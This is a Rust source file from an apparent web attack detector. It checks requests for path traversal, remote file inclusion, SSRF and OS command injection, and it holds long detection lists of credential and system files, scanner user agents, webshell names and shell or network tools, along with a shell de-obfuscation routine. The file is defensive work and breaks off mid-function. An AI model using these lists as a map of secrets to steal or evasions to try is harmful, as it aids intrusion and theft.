//! The signature-and-structure detectors: traversal/LFI, RFI, OS command
//! injection, PHP injection, Java (JNDI/Log4Shell, deserialisation, OGNL),
//! SSRF, webshells and scanners. Inputs are decoded values, lower-cased by
//! the caller where noted.

/// Files whose names in a request mean local-file inclusion or disclosure.
const SENSITIVE_FILES: &[&str] = &[
    // System state and configuration an attacker reads first (Linux FHS,
    // container and cloud credential locations).
    "proc/sys/",
    "proc/net/",
    "etc/apache2/",
    "etc/httpd/",
    "etc/nginx/",
    "etc/mysql/",
    "etc/ssh/",
    "etc/subuid",
    "etc/subgid",
    "etc/gshadow",
    "etc/master.passwd",
    "etc/resolv.conf",
    "sys/class/",
    "sys/kernel/",
    "var/run/secrets/",
    ".kube/config",
    ".git-credentials",
    ".pgpass",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    ".docker/config.json",
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    "etc/motd",
    "etc/crontab",
    "etc/sudoers",
    "etc/fstab",
    "etc/security/",
    "proc/self/",
    "proc/version",
    "proc/cpuinfo",
    "boot.ini",
    "win.ini",
    "system.ini",
    "windows/system32",
    "winnt/system32",
    "system32/drivers",
    ".htaccess",
    ".htpasswd",
    "web.config",
    "web-inf/",
    "meta-inf/",
    ".bash_history",
    ".ssh/",
    "id_rsa",
    "authorized_keys",
    ".git/",
    ".svn/",
    ".env",
    "wp-config.php",
    "config.php",
    "localsettings.php",
    "/var/log/",
    "access.log",
    "error.log",
    "php.ini",
    "my.cnf",
    ".aws/credentials",
    ".docker",
    "/root/",
    "sam",
    "/usr/local/",
    "httpd.conf",
    "nginx.conf",
    ".bashrc",
    ".profile",
    ".mysql_history",
    "applicationhost.config",
    "/dev/",
    "/bin/",
];

/// Entries of [`SENSITIVE_FILES`] that name an OS secret or state file
/// wherever they appear in a value: no ordinary form field holds them.
const UNAMBIGUOUS_FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/gshadow",
    "etc/master.passwd",
    "etc/sudoers",
    "proc/self/",
    "proc/sys/",
    "proc/net/",
    "sys/class/",
    "sys/kernel/",
    ".ssh/",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "authorized_keys",
    ".bash_history",
    ".mysql_history",
    ".aws/credentials",
    ".git-credentials",
    ".kube/config",
    ".docker/config.json",
    "var/run/secrets/",
    "win.ini",
    "boot.ini",
    "windows/system32",
    "winnt/system32",
    ".htpasswd",
    "wp-config.php",
    "web-inf/",
];

/// Files a web server must never hand out, named in a request path or a
/// parameter: secrets and tool state under dot-directories, database dumps,
/// application logs, process and kernel state. Our list, written from the
/// files attackers fetch in published incident write-ups; the idea of also
/// covering AI coding-assistant folders (API keys and agent rules kept next
/// to the code) comes from CRS's `ai-critical-artifacts.data` (rule 930140).
/// Matched as substrings of the decoded, lower-cased value.
const RESTRICTED_FILES: &[&str] = &[
    "/.env",
    ".env.local",
    ".env.production",
    "/.git/",
    "/.gitconfig",
    "/.svn/",
    "/.hg/",
    "/.bzr/",
    "/.aws/",
    "/.docker/",
    "/.kube/",
    "/.npmrc",
    "/.pypirc",
    "/.netrc",
    "/.pgpass",
    "/.my.cnf",
    "/.bashrc",
    "/.zsh_history",
    "/.history",
    "/.terraform",
    "terraform.tfstate",
    "/.vscode/sftp.json",
    "/.idea/workspace.xml",
    "/.ds_store",
    ".sql.zip",
    ".sql.gz",
    ".sql.bz2",
    ".sql.tar",
    ".sql.7z",
    ".sql.bak",
    "/dump.sql",
    "/backup.sql",
    "/database.sql",
    "/debug.log",
    "/error.log",
    "/errors.log",
    "/error_log",
    "/access.log",
    "/access_log",
    "/laravel.log",
    "/proc/",
    "/sys/class",
    "/sys/kernel",
    "/sys/devices",
    // Vite's dev server: `/@fs/<absolute path>` reads any file (CVE-2025-30208).
    "/@fs/",
    // AI coding-assistant settings and rules.
    "/.claude/",
    "/.cursor/",
    "/.continue/",
    "/.aider",
    "/.roo/",
    "/.zed/",
    "/.cline/",
    "/.kiro/",
    "/.windsurf/",
    "/.codex/",
    "/.opencode/",
    "/.junie/",
    "/.gemini/",
    "/.rovodev/",
    "/.plandex/",
    "/.fabric/",
    "/.n8n/",
    "/.a0proj/",
    ".cursorignore",
    ".aiignore",
    "/.mcp.json",
];

static RESTRICTED_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| ac(RESTRICTED_FILES));

/// A [`RESTRICTED_FILES`] entry in a decoded, lower-cased path or value.
pub fn restricted(l: &str) -> Option<(f32, &'static str)> {
    RESTRICTED_AC
        .as_ref()
        .is_some_and(|a| a.is_match(l))
        .then_some((0.6, "restricted file named"))
}

/// Path probes typical of scanners looking for exposed files or admin panels.
const PROBE_PATHS: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.ds_store",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/phpmyadmin",
    "/pma/",
    "/myadmin",
    "/server-status",
    "/server-info",
    "/actuator",
    "/manager/html",
    "/jmx-console",
    "/web-console",
    "/invoker/",
    "/solr/admin",
    "/hnap1",
    "/boaform",
    "/cgi-bin/",
    "/wp-config",
    ".bak",
    ".old",
    ".swp",
    "~",
    ".sql",
    "/backup",
    "/config.json",
    "/phpinfo",
    "/info.php",
    "/test.php",
    "/shell",
    "/.well-known/security",
    "/owa/",
    "/autodiscover",
    "/vendor/phpunit",
    "/console",
    "/debug",
    "/setup.php",
    "/install.php",
    "/xmlrpc.php",
    "/admin.php",
    "/administrator/",
    "/etc/passwd",
    "/.vscode",
    "/.idea/",
    "/composer.json",
    "/package.json",
    "/docker-compose",
    "/dump.sql",
    "/db.sql",
];

const SCANNER_UA: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "wpscan",
    "dirbuster",
    "gobuster",
    "ffuf",
    "feroxbuster",
    "acunetix",
    "netsparker",
    "nessus",
    "openvas",
    "w3af",
    "havij",
    "jaeles",
    "fimap",
    "commix",
    "whatweb",
    "wfuzz",
    "arachni",
    "skipfish",
    "zmeu",
    "morfeus",
    "dirb",
    "burp",
    "owasp zap",
    "zaproxy",
    "appscan",
    "webinspect",
    "qualys",
    "paros",
    "grabber",
    "bsqlbf",
    "pangolin",
    "brutus",
    "hydra",
    "medusa",
    "xsser",
    "joomscan",
    "droopescan",
    "nsauditor",
    "webshag",
    "httprint",
    "zgrab",
    "censys",
    "internet-measurement",
    "libwww-perl",
    "python-httpx",
    "l9explore",
    "l9tcpid",
    "scanbot",
    "crawlergo",
    "xray",
    "interact.sh",
    "openvas",
    "sitelock",
    "mozilla/5.0 sf",
    "fuzz faster",
];

/// Known webshell file names.
const WEBSHELLS: &[&str] = &[
    "c99",
    "r57",
    "c100",
    "wso",
    "b374k",
    "alfa",
    "filesman",
    "phpspy",
    "webshell",
    "cmd.jsp",
    "cmd.asp",
    "cmd.aspx",
    "cmdasp",
    "shell.php",
    "shell.jsp",
    "shell.aspx",
    "sh3ll",
    "indoxploit",
    "p0wny",
    "weevely",
    "china chopper",
    "chopper",
    "antsword",
    "godzilla",
    "behinder",
    "bypass.php",
    "uploader.php",
    "up.php",
    "wp-shell",
    "mini.php",
    "leaf.php",
    "r00t",
    "madspot",
    "symlink.php",
    "0byte",
    "adminer.php",
    "xleet",
    "marijuana",
    "haxor",
];

/// Parameter names webshells take a command in.
const SHELL_PARAMS: &[&str] = &[
    "cmd", "exec", "command", "shell", "execute", "c", "run", "pass", "z0", "act", "action",
];

/// Shell commands worth running on a server you broke into.
pub const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "nslookup",
    "dig",
    "echo",
    "rm",
    "chmod",
    "chown",
    "busybox",
    "powershell",
    "cmd",
    "ipconfig",
    "ifconfig",
    "net",
    "netstat",
    "tftp",
    "ftp",
    "telnet",
    "sleep",
    "env",
    "printenv",
    "pwd",
    "head",
    "tail",
    "more",
    "less",
    "find",
    "grep",
    "awk",
    "sed",
    "xargs",
    "base64",
    "tar",
    "nohup",
    "kill",
    "ps",
    "passwd",
    "useradd",
    "crontab",
    "systeminfo",
    "tasklist",
    "type",
    "dir",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "reg",
    "sc",
    "whoami.exe",
    "uname -a",
    "cp",
    "mv",
    "touch",
    "mkdir",
    "nmap",
    "socat",
    "java",
    "node",
    "gcc",
    "exec",
    "eval",
    "expr",
    "hostname",
    "ver",
    "vol",
    "timeout",
    "start",
    "bitsadmin",
    "curl.exe",
    "wget.exe",
    "od",
    "xxd",
    "dd",
    "ln",
    "uptime",
    "w",
    "who",
    "last",
    "mail",
    "sudo",
    "su",
    "openssl",
    "lua",
    "tclsh",
    "wscript",
    "cscript",
    "diff",
    "nl",
    "tac",
    "rev",
    "strings",
    "sort",
    "uniq",
    "cut",
    "tr",
];

/// More Unix programs an attacker runs or abuses to read files, spawn a shell
/// or move data: the GTFOBins catalogue of binaries with shell-escape,
/// file-read or download functions, plus coreutils/util-linux and the
/// compilers, interpreters and archivers found on servers. Derived from what
/// the programs can do, not from any test set. Names that are also ordinary
/// English words are in [`WEAK_COMMANDS`] instead.
const MORE_COMMANDS: &[&str] = &[
    "apt",
    "apt-get",
    "aria2c",
    "arj",
    "arp",
    "ash",
    "atobm",
    "base32",
    "base58",
    "basenc",
    "basez",
    "bconsole",
    "bpftrace",
    "bridge",
    "bsdtar",
    "bundle",
    "bundler",
    "busctl",
    "byebug",
    "bzip2",
    "bunzip2",
    "bzcat",
    "c89",
    "c99",
    "cabal",
    "capsh",
    "cdist",
    "certbot",
    "chattr",
    "choom",
    "chroot",
    "clamscan",
    "cmp",
    "cobc",
    "composer",
    "cowsay",
    "cowthink",
    "cpan",
    "cpio",
    "cpulimit",
    "csplit",
    "csvtool",
    "cupsfilter",
    "dc",
    "debugfs",
    "distcc",
    "dmesg",
    "dmidecode",
    "dmsetup",
    "dnf",
    "docker",
    "dos2unix",
    "dosbox",
    "dotnet",
    "dpkg",
    "dstat",
    "dvips",
    "easy_install",
    "eb",
    "efax",
    "elvish",
    "emacs",
    "enscript",
    "eqn",
    "espeak",
    "exiftool",
    "facter",
    "fgrep",
    "egrep",
    "fish",
    "fmt",
    "fping",
    "gawk",
    "gcloud",
    "gcore",
    "gdb",
    "gem",
    "genisoimage",
    "ghc",
    "ghci",
    "gimp",
    "ginsh",
    "git",
    "grc",
    "gtester",
    "gunzip",
    "gzip",
    "hexdump",
    "hping3",
    "iconv",
    "iftop",
    "ionice",
    "irb",
    "ispell",
    "jjs",
    "jq",
    "jrunscript",
    "journalctl",
    "julia",
    "knife",
    "ksshell",
    "ksu",
    "kubectl",
    "latex",
    "latexmk",
    "ldconfig",
    "lftp",
    "loginctl",
    "logsave",
    "lp",
    "ltrace",
    "lualatex",
    "luatex",
    "lwp-download",
    "lwp-request",
    "lsof",
    "lsattr",
    "mawk",
    "minicom",
    "mosquitto",
    "msfconsole",
    "msgattrib",
    "msgcat",
    "msgconv",
    "msgfilter",
    "msgmerge",
    "msguniq",
    "mtr",
    "multitime",
    "mysql",
    "mysqldump",
    "nano",
    "nasm",
    "nawk",
    "ncftp",
    "neofetch",
    "nft",
    "nmcli",
    "nroff",
    "nsenter",
    "ntpdate",
    "octave",
    "openvpn",
    "openvt",
    "opkg",
    "pandoc",
    "pdb",
    "pdflatex",
    "pdftex",
    "perlbug",
    "pexec",
    "pidstat",
    "pip",
    "pip3",
    "pkexec",
    "pkill",
    "killall",
    "posh",
    "pry",
    "psftp",
    "psql",
    "ptx",
    "puppet",
    "pwsh",
    "python2",
    "rake",
    "readelf",
    "redcarpet",
    "restic",
    "rlogin",
    "rlwrap",
    "rpm",
    "rpmdb",
    "rpmquery",
    "rpmverify",
    "rsync",
    "rtorrent",
    "run-mailcap",
    "run-parts",
    "runscript",
    "rview",
    "rvim",
    "sash",
    "scanmem",
    "scp",
    "scrot",
    "setarch",
    "setfacl",
    "setlock",
    "sftp",
    "shuf",
    "slsh",
    "smbclient",
    "socat",
    "soelim",
    "softlimit",
    "sqlite3",
    "ssh",
    "ssh-agent",
    "ssh-keygen",
    "ssh-keyscan",
    "sshpass",
    "start-stop-daemon",
    "stdbuf",
    "strace",
    "sysctl",
    "systemctl",
    "systemd-run",
    "taskset",
    "tasksh",
    "tcpdump",
    "tdbtool",
    "terraform",
    "tmate",
    "tmux",
    "torify",
    "torsocks",
    "tshark",
    "unexpand",
    "unshare",
    "unsquashfs",
    "unzip",
    "unxz",
    "unlzma",
    "unrar",
    "update-alternatives",
    "uudecode",
    "uuencode",
    "vagrant",
    "valgrind",
    "vi",
    "vim",
    "vimdiff",
    "vigr",
    "vipw",
    "virsh",
    "w3m",
    "wc",
    "whiptail",
    "whois",
    "wireshark",
    "xdotool",
    "xelatex",
    "xetex",
    "xmodmap",
    "xmore",
    "xpad",
    "xz",
    "xzcat",
    "zcat",
    "zstd",
    "zstdcat",
    "yarn",
    "yash",
    "yum",
    "zathura",
    "zip",
    "zsoelim",
    "zypper",
    "gcc",
    "g++",
    "cc",
    "clang",
    "make",
    "npm",
    "npx",
    "php-cgi",
    "phpunit",
    "lynx",
    "links",
    "elinks",
    "ncat",
    "nc.traditional",
    "nc.openbsd",
    "traceroute",
    "tracert",
    "host",
    "arping",
    "iptables",
    "route",
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "groupadd",
    "visudo",
    "chpasswd",
    "chgrp",
    "umask",
    "mkfifo",
    "mknod",
    "getent",
    "lsb_release",
    "hostnamectl",
    "ifup",
    "ifdown",
    "iwconfig",
    "modprobe",
    "insmod",
    "lsmod",
    "rmmod",
    "shred",
    "truncate",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "cksum",
    "base64url",
    "printf",
    "alias",
    "unalias",
    "export",
    "unset",
    "source",
    "bsdcat",
    "7z",
    "7za",
    "rar",
    "pax",
    "ar",
    "ld",
    "objdump",
    "nm",
    "gdbserver",
    "tclsh8.6",
    "wish",
    "expect",
    "ed",
    "ex",
    "sqlplus",
    "mongo",
    "redis-cli",
    "cd",
    "tee",
    "whoami",
    "id",
    "uname",
    "nohup",
    "python3.10",
    "python3.11",
    "python3.12",
    "python2.7",
    "perl5",
    "ruby2",
    "php7",
    "php8",
    "netsh",
    "schtasks",
    "at.exe",
    "vssadmin",
    "wevtutil",
    "icacls",
    "takeown",
    "attrib",
    "findstr",
    "tasklist",
    "taskkill",
    "net1",
    "nltest",
    "dsquery",
    "cipher",
    "msiexec",
    "installutil",
    "regasm",
    "regsvcs",
    "msbuild",
    "cmstp",
    "forfiles",
    "pcalua",
    "bash.exe",
    "wsl",
    "powershell_ise",
    "ipconfig",
    "systeminfo",
    "qwinsta",
    "quser",
    "whoami.exe",
];

/// Program names that are also everyday words (`time`, `more`, `sort`,
/// `find`): they count as a command only when what follows reads as a
/// command line (an option, a path, a redirect or the end of the value).
const WEAK_COMMANDS: &[&str] = &[
    "at", "cancel", "column", "comm", "crash", "cut", "date", "dialog", "diff", "expand", "file",
    "find", "finger", "fold", "head", "install", "join", "look", "man", "more", "mount", "nice",
    "pic", "pr", "red", "screen", "script", "service", "snap", "socket", "sort", "split", "task",
    "time", "top", "view", "wall", "watch", "yelp", "less", "last", "kill", "start", "type", "dir",
    "net", "rev", "ver", "vol", "sc", "reg", "set", "test", "tail", "w", "who", "as", "ip", "ss",
    "hd", "ul", "rc", "sg", "mail", "touch", "command", "builtin", "md", "rd", "del", "copy",
    "move", "ren", "call", "shift", "pushd", "popd", "title", "color", "cls", "tree", "print",
    "format", "label", "links", "host", "make", "expect", "wish", "ed", "ex", "cc", "ar", "nm",
    "source", "export", "alias", "route", "shred", "truncate",
];

/// Commands that run another command given as their arguments.
const WRAPPERS: &[&str] = &[
    "time",
    "nice",
    "env",
    "nohup",
    "timeout",
    "sudo",
    "xargs",
    "strace",
    "ltrace",
    "stdbuf",
    "ionice",
    "taskset",
    "chroot",
    "busybox",
    "exec",
    "command",
    "builtin",
    "setsid",
    "unshare",
    "nsenter",
    "cpulimit",
    "flock",
    "watch",
    "multitime",
    "setarch",
    "torify",
    "torsocks",
    "su",
    "doas",
    "pkexec",
    "sshpass",
    "script",
    "softlimit",
    "setlock",
    "start-stop-daemon",
    "run-parts",
    "systemd-run",
    "firejail",
    "proxychains",
];

/// Strong: [`COMMANDS`] and [`MORE_COMMANDS`] minus the weak ones; the new
/// names of one or two letters (`cd`, `dc`, `ar`) are weak too: a user agent's
/// `; CD 1;` list is not a shell.
static STRONG_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
    std::sync::LazyLock::new(|| {
        COMMANDS
            .iter()
            .chain(MORE_COMMANDS.iter().filter(|c| c.len() > 2))
            .copied()
            .filter(|c| !WEAK_COMMANDS.contains(c))
            .collect()
    });

static WEAK_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
    std::sync::LazyLock::new(|| {
        WEAK_COMMANDS
            .iter()
            .chain(MORE_COMMANDS.iter().filter(|c| c.len() <= 2))
            .copied()
            .collect()
    });

/// The program name of a command word: quotes and brackets trimmed, the
/// directory and a Windows `.exe` dropped.
fn command_base(w: &str) -> &str {
    let w = w.trim_matches(|c: char| c == '"' || c == '\'' || c == '`' || c == '(' || c == '{');
    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
    base.strip_suffix(".exe").unwrap_or(base)
}

/// Whether `w` names a program (strong or weak).
fn is_command(w: &str) -> bool {
    let base = command_base(w);
    !base.is_empty() && (STRONG_SET.contains(base) || WEAK_SET.contains(base))
}

/// Whether `w` names a program that is not also an everyday word.
fn is_strong_command(w: &str) -> bool {
    let base = command_base(w);
    !base.is_empty() && STRONG_SET.contains(base)
}

/// What follows a weak command word reads as a command line: nothing, an
/// option (`-x`, `/x` on Windows), a path, a redirect, a pipe or a variable.
fn command_line_tail(after: &str) -> bool {
    let t = after.trim_start_matches([' ', '\t', '+']);
    t.is_empty()
        || t.starts_with([
            '-', '/', '~', '.', '<', '>', '|', '$', '`', '"', '\'', '\n', ')', '}',
        ])
        || t.get(1..3) == Some(":\\")
        || t.get(1..3) == Some(":/")
}

/// Shell de-obfuscation: quotes and backslashes inside words (`c\at`,
/// `c''at`, `c"a"t`), `$@`, `${IFS}`/`$IFS$9` → space, `$()`-less globs.
pub fn shell_fold(s: &str) -> String {
    // Fast path: without these bytes there is nothing to fold (most values).
    if !s.contains(['$', '\'', '"', '\\', '[']) {
        return s.to_owned();
    }
    let s = s
        .replace("${ifs}", " ")
        .replace("$ifs$9", " ")
        .replace("$ifs", " ")
        .replace("$@", "")
        .replace("$*", "")
        .replace("''", "")
        .replace("\"\"", "")
        .replace("\\\n", "");
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        // `c\at`: a backslash before a letter is nothing to the shell.
        if c == b'\\' && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
            i += 1;
            continue;
        }
        if c == b'$' {
            let prev_alnum = i > 0 && b[i - 1].is_ascii_alphanumeric();
            match b.get(i + 1) {
                // Special parameters inside a word expand to (almost) nothing:
                // `c$!at`, `c$?at`, `c$-at`, `c$_at`, `c$0at`.
                Some(b'!' | b'?' | b'-' | b'_' | b'#' | b'0'..=b'9') if prev_alnum => {
                    i += 2;
                    continue;
                }
                // An unset variable glued to a word: `uname$u`, `n$u\c$u`.
                Some(n) if prev_alnum && n.is_ascii_alphabetic() => {
                    let mut j = i + 1;
                    while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                        j += 1;
                    }
                    if j - i <= 4 {
                        i = j;
                        continue;
                    }
                }
                _ => {}
            }
        }
        // A one-character glob class `[r]` matches only that character.
        if c == b'['
            && b.get(i + 2) == Some(&b']')
            && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric())
        {
            out.push(b[i + 1] as char);
            i += 3;
            continue;
        }
        // Every skip above is ASCII, so `i` is on a character boundary.
        let Some(ch) = s.get(i..).and_then(|r| r.chars().next()) else {
            break;
        };
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Path traversal / LFI on a decoded, lower-cased value.
pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
    let mut norm: std::borrow::Cow<'_, str> = if l.contains('\\') {
        std::borrow::Cow::Owned(l.replace('\\', "/"))
    } else {
        std::borrow::Cow::Borrowed(l)
    };
    // `0x2e0x2e0x2f`, `0x5c0x2e.`: dots and slashes written as C-style hex
    // escapes, which some application decoders (and PHP's `hex2bin`-style
    // helpers) turn back into bytes.
    if norm.contains("0x") {
        norm = std::borrow::Cow::Owned(
            norm.replace("0x2e", ".")
                .replace("0x2f", "/")
                .replace("0x5c", "/"),
        );
    }
    let dots = norm.matches("../").count()
        + norm.matches("/..").count() / 2
        + norm.matches("..;/").count();
    let files: Vec<&str> = SENSITIVE_AC
        .as_ref()
        .map(|a| {
            a.find_overlapping_iter(norm.as_ref())
                .filter_map(|m| SENSITIVE_FILES.get(m.pattern().as_usize()).copied())
                .collect()
        })
        .unwrap_or_default();
    let file = files.first();
    if dots >= 1 && file.is_some() {
        return Some((0.95, "traversal to sensitive file"));
    }
    if norm.contains("..%") || norm.contains("..\u{fffd}") {
        return Some((0.7, "traversal with residual encoding"));
    }
    if dots >= 2 {
        return Some((0.85, "repeated ../"));
    }
    if dots == 1
        && (norm.starts_with("../")
            || norm.starts_with("/../")
            || norm.contains("=../")
            || norm.ends_with("/.."))
    {
        return Some((0.6, "../ at value start"));
    }
    // OS files no ordinary parameter names, relative or absolute
    // (`path=.ssh/id_rsa`, `x=/sys/class/net`, `f=backup.sql.zip`).
    if files.iter().any(|f| UNAMBIGUOUS_FILES.contains(f)) {
        return Some((0.75, "sensitive OS file named"));
    }
    if let Some(v) = restricted(&norm) {
        return Some(v);
    }
    // Names too common in ordinary paths to count alone.
    let strong = files
        .iter()
        .find(|f| !matches!(**f, "sam" | "/dev/" | "/bin/" | "~" | "config.php" | ".env"));
    if let Some(f) = strong {
        // An absolute path to a system file given as a value (`?file=/etc/passwd`)
        // or as an argument inside it (`cat /root/.ssh/id_rsa`, `x;type c:/boot.ini`).
        let abs_tok = |t: &str| {
            t.starts_with('/')
                || t.starts_with("~/")
                || t.get(1..3) == Some(":/")
                || t.starts_with("file:")
        };
        let abs = abs_tok(&norm)
            || norm
                .split([
                    ' ', '\t', ';', '|', '&', '\'', '"', '(', '=', ',', '<', '>', '`',
                ])
                .any(|t| abs_tok(t) && t.contains(*f));
        if abs {
            return Some((0.8, "absolute path to sensitive file"));
        }
    }
    for w in [
        "php://filter",
        "php://input",
        "zip://",
        "phar://",
        "expect://",
        "file://",
        "glob://",
        "compress.zlib://",
        "data://text/plain",
    ] {
        if norm.contains(w) {
            return Some((0.85, "stream wrapper"));
        }
    }
    if norm.contains('\0') && (norm.contains("../") || file.is_some()) {
        return Some((0.9, "null-byte truncation"));
    }
    None
}

fn host_of(url_rest: &str) -> &str {
    let end = url_rest
        .find(['/', '?', '#', '\\'])
        .unwrap_or(url_rest.len());
    let h = &url_rest[..end];
    let h = h.rsplit('@').next().unwrap_or(h);
    if h.starts_with('[') {
        return h
            .split(']')
            .next()
            .map(|x| x.trim_start_matches('['))
            .unwrap_or(h);
    }
    h.split(':').next().unwrap_or(h)
}

fn internal_host(h: &str) -> bool {
    if matches!(
        h,
        "localhost"
            | "0"
            | "0.0.0.0"
            | "::1"
            | "::"
            | "metadata.google.internal"
            | "metadata"
            | "instance-data"
            | "127.1"
            | "0177.0.0.1"
            | "0x7f.0.0.1"
            | "2130706433"
            | "0x7f000001"
            | "017700000001"
    ) || h.ends_with(".internal")
        || h.ends_with(".local")
        || h.ends_with("localtest.me")
        || h.ends_with("nip.io")
        || h.ends_with(".localhost")
    {
        return true;
    }
    match h.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v)) => {
            v.is_loopback() || v.is_private() || v.is_link_local() || v.is_unspecified()
        }
        Ok(std::net::IpAddr::V6(v)) => {
            v.is_loopback() || v.is_unspecified() || (v.segments()[0] & 0xfe00) == 0xfc00
        }
        Err(_) => false,
    }
}

/// RFI and SSRF from a URL-valued parameter (decoded, lower-cased).
pub fn url_param(
    name: &str,
    l: &str,
    site: Option<&str>,
) -> Vec<(crate::detect::web::Class, f32, &'static str)> {
    use crate::detect::web::Class;
    let mut out = Vec::new();
    // `_conf[path]`, `cfg[include][file]`: PHP reads nested names as arrays;
    // the innermost key says what the value is used for.
    let name = name
        .rsplit('[')
        .next()
        .map(|n| n.trim_end_matches(']'))
        .filter(|n| !n.is_empty())
        .unwrap_or(name);
    let v = l.trim();
    let Some((scheme, rest)) = v.split_once("://") else {
        return out;
    };
    let scheme = scheme.trim();
    if scheme.is_empty()
        || !scheme
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'+' || c == b'-')
    {
        return out;
    }
    let host = host_of(rest);
    if matches!(
        scheme,
        "gopher" | "dict" | "ldap" | "tftp" | "jar" | "netdoc" | "sftp"
    ) {
        out.push((Class::Ssrf, 0.85, "SSRF scheme"));
    } else if internal_host(host) && matches!(scheme, "http" | "https" | "ftp" | "ftps") {
        out.push((Class::Ssrf, 0.85, "URL to internal host"));
    }
    if matches!(scheme, "http" | "https" | "ftp" | "ftps") {
        let ip_host = host.parse::<std::net::IpAddr>().is_ok();
        let include_param = matches!(
            name,
            "include"
                | "inc"
                | "file"
                | "page"
                | "path"
                | "template"
                | "require"
                | "load"
                | "dir"
                | "document_root"
                | "root"
                | "folder"
                | "mod"
                | "module"
                | "conf"
                | "config"
                | "pg"
                | "style"
                | "pdf"
                | "doc"
                | "lang"
                | "language"
                | "site"
                | "show"
                | "nav"
                | "content"
                | "layout"
                | "cat"
                | "action"
                | "board"
                | "date"
                | "detail"
                | "download"
                | "prefix"
                | "read"
                | "view"
                | "home"
                | "mosconfig_absolute_path"
                | "phpbb_root_path"
                | "base_path"
                | "abspath"
        );
        let trailing =
            v.ends_with('?') || v.ends_with("?\0") || v.ends_with('\0') || v.contains('\0');
        let script = [".txt", ".php", ".inc", ".gif?", ".jpg?"]
            .iter()
            .any(|e| v.ends_with(e) || v.contains(&format!("{e}?")));
        let off_site = site.is_some_and(|s| !host.is_empty() && host != s.to_ascii_lowercase());
        if ip_host && !internal_host(host) {
            out.push((Class::Rfi, 0.85, "URL with IP address in parameter"));
        } else if trailing {
            out.push((Class::Rfi, 0.85, "URL with trailing ? or NUL"));
        } else if include_param && (script || off_site) {
            out.push((Class::Rfi, 0.8, "URL in include-like parameter"));
        } else if include_param || script && off_site {
            out.push((Class::Rfi, 0.55, "off-site URL in parameter"));
        }
    }
    out
}

static SHELL_FUNC: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r"(?:^|[;&|\s])[\w.:-]{1,32}\s*\(\s*\)\s*\{").ok()
});

static WIN_FOR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|[;&|(@\s])for(?:\s+/[dlrf](?:\s+(?:"[^"]*"|[a-z]:[^\s]*|[^%\s]+))?)*\s+%%?[~\w@$]*\s+in\s*\(.*\)\s*do\b"#,
    )
    .ok()
});

static WIN_IF: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|[;&|(@])\s*if(?:\s+/i)?(?:\s+not)?\s+(?:(?:exist|defined)\s+\S+\s+\S|errorlevel\s+\d+\s+\S|cmdextversion\s+\d|\S+\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*\S+\s+[(@a-z])"#,
    )
    .ok()
});

/// OS command injection on a decoded, lower-cased value.
pub fn rce(l: &str) -> Option<(f32, &'static str)> {
    if l.contains("() {") && (l.contains(";") || l.contains("}")) {
        return Some((0.95, "shellshock function definition"));
    }
    let f = shell_fold(l);
    // A shell function definition (`f(){ f|f& };f`, `:(){ :|:& };:`): name, `()`, `{`, body, `}`.
    // (`function f() {` is JavaScript/PHP syntax: left to the XSS/PHP checks.)
    // The regexes below each need a byte or word that most values lack:
    // test for it first (a value is scanned by a regex only when it can match).
    if let Some(m) = f
        .contains('{')
        .then(|| SHELL_FUNC.as_ref().and_then(|r| r.find(&f)))
        .flatten()
        && f[m.end()..].contains('}')
        // Its body pipes, backgrounds or chains commands (a fork bomb, a
        // payload), not just `echo hello`.
        && f[m.end()..].contains(['|', '&', ';'])
        && !f[..m.start() + 1].trim_end().ends_with("function")
    {
        return Some((0.9, "shell function definition"));
    }
    // cmd.exe control flow: `for [/d|/r …|/l|/f "…"] %%x in (…) do …`,
    // `if [/i] [not] exist|defined|errorlevel …` and `if … ==|equ|neq|lss|gtr … command`.
    if f.contains("for") && WIN_FOR.as_ref().is_some_and(|r| r.is_match(&f)) {
        return Some((0.9, "cmd.exe for loop"));
    }
    if f.contains("if") && WIN_IF.as_ref().is_some_and(|r| r.is_match(&f)) {
        return Some((0.8, "cmd.exe if statement"));
    }
    if let Some(v) = brace_expansion(&f) {
        return Some(v);
    }
    if let Some(v) = glob_path(&f) {
        return Some(v);
    }
    // A variable that holds a shell, run with a command: `$SHELL -c id`, `${BASH} -c …`.
    for v in ["$shell", "${shell}", "$bash", "${bash}", "$0 -c"] {
        if let Some(i) = f.find(v) {
            let after = f[i + v.len()..].trim_start();
